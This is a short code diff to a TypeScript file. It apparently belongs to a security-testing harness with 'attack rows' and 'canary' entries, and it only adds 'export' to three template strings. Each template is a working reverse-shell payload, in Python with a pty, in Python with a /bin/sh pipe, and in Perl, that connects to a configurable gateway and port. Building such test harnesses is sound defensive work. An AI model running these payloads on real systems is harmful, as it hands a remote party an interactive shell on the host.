@@ -171,7 +171,7 @@ const canary = (name: string, interpreter: Interpreter, code: string): AttackRow
   ...paused,
 });
 
-const PTY_RELAY = (t: Target) => `import os, select, socket
+export const PTY_RELAY = (t: Target) => `import os, select, socket
 s = socket.create_connection(("${t.gateway}", ${t.port}))
 master, slave = os.openpty()
 if os.fork() == 0:
@@ -188,7 +188,7 @@ while True:
         s.send(os.read(master, 1024))
 `;
 
-const PY_PIPE_RELAY = (t: Target) => `import socket, subprocess, threading
+export const PY_PIPE_RELAY = (t: Target) => `import socket, subprocess, threading
 s = socket.create_connection(("${t.gateway}", ${t.port}))
 p = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
 def pump():
@@ -200,7 +200,7 @@ for chunk in iter(lambda: s.recv(1024), b""):
     p.stdin.flush()
 `;
 
-const PERL_PIPE_RELAY = (t: Target) => `use IO::Socket::INET;
+export const PERL_PIPE_RELAY = (t: Target) => `use IO::Socket::INET;
 my $s = IO::Socket::INET->new(PeerAddr => "${t.gateway}:${t.port}") or die;
 pipe(my $in_r, my $in_w); pipe(my $out_r, my $out_w);
 if (!fork) {
